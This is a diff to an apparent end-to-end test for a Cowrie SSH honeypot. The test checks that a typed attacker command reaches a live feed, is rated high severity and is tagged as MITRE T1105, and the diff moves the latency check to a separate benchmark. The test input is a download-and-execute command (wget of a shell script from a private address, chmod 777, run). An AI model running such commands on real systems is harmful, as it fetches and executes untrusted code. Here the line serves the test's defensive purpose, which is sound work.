@@ -45,16 +45,14 @@ describe('a real attack on a real Cowrie, all the way', () => {
     await rm(folder, { recursive: true, force: true });
   });
 
-  it('is on the live feed within a second, assessed, and the next attacker sees what it caused', async () => {
+  it('is on the live feed, assessed (how soon: `bench -- latency`), and the next attacker sees what it caused', async () => {
     const first = await cowrie.login();
     await first.type('uname -a');
-    const typedAt = performance.now();
     // Cowrie refuses private addresses at once; any other would be waited for.
     await first.type('wget http://10.9.8.7/x.sh -O /tmp/x.sh; chmod 777 /tmp/x.sh; /tmp/x.sh');
     const seen = await live.until(
       (message) => message.type === 'event' && message.event.command?.includes('10.9.8.7') === true,
     );
-    expect(performance.now() - typedAt).toBeLessThan(1000);
     expect(seen).toMatchObject({ event: { severity: 'HIGH', is_analyzed: true } });
     expect(seen).toHaveProperty('event.techniques', expect.arrayContaining([expect.stringMatching(/^T1105/)]));
 
